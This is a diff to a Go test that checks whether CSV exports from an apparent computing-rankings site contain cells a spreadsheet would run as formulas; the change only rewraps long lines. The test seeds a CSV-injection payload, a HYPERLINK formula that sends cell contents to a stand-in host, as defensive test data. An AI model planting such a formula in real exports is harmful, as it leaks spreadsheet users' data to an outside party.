@@ -8,7 +8,8 @@ import (
 	"testing"
 )
 
-// TestNoExportRunsAsAFormula: no cell of a CSV file begins as a spreadsheet would run it, whatever somebody called their system.
+// TestNoExportRunsAsAFormula: no cell of a CSV file begins as a spreadsheet would run it, whatever somebody called
+// their system.
 func TestNoExportRunsAsAFormula(t *testing.T) {
 	h := open(t)
 	const formula = `=HYPERLINK("http://x.example?"&A1)`
@@ -20,8 +21,12 @@ func TestNoExportRunsAsAFormula(t *testing.T) {
 		h.execute(t, statement)
 	}
 	for _, address := range []string{
-		"/lists/2025-11/list.csv", "/lists/2025-11/view.csv", "/lists/all/view.csv", "/editions/rehearsal.csv?methodology=1.2", "/entries/LISTED/envelope.csv", "/entries/LISTED/chart.csv", "/submissions/DRAFT/chart.csv",
-		"/trends.csv?figure=efficiency", "/systems/MACHINE/figures.csv?figure=power", "/by/country/DE/figures.csv?figure=levels", "/compare.csv?row=2025-11:1&figure=efficiency", "/models/simgrid/figures.csv?figure=load",
+		"/lists/2025-11/list.csv", "/lists/2025-11/view.csv", "/lists/all/view.csv",
+		"/editions/rehearsal.csv?methodology=1.2", "/entries/LISTED/envelope.csv", "/entries/LISTED/chart.csv",
+		"/submissions/DRAFT/chart.csv",
+		"/trends.csv?figure=efficiency", "/systems/MACHINE/figures.csv?figure=power",
+		"/by/country/DE/figures.csv?figure=levels", "/compare.csv?row=2025-11:1&figure=efficiency",
+		"/models/simgrid/figures.csv?figure=load",
 	} {
 		visitor := map[bool]string{true: "editor", false: "submitter"}[strings.HasPrefix(address, "/editions")]
 		status, text := h.look(t, visitor, address)
@@ -34,7 +39,8 @@ func TestNoExportRunsAsAFormula(t *testing.T) {
 		for _, row := range rows {
 			for _, cell := range row {
 				_, number := strconv.ParseFloat(cell, 64)
-				if begins := strings.TrimLeft(cell, " \t\r\n"); number != nil && begins != "" && strings.ContainsAny(begins[:1], "=+-@") {
+				if begins := strings.TrimLeft(cell, " \t\r\n"); number != nil && begins != "" &&
+					strings.ContainsAny(begins[:1], "=+-@") {
 					t.Errorf("%s has the cell %q", address, cell)
 				}
 			}
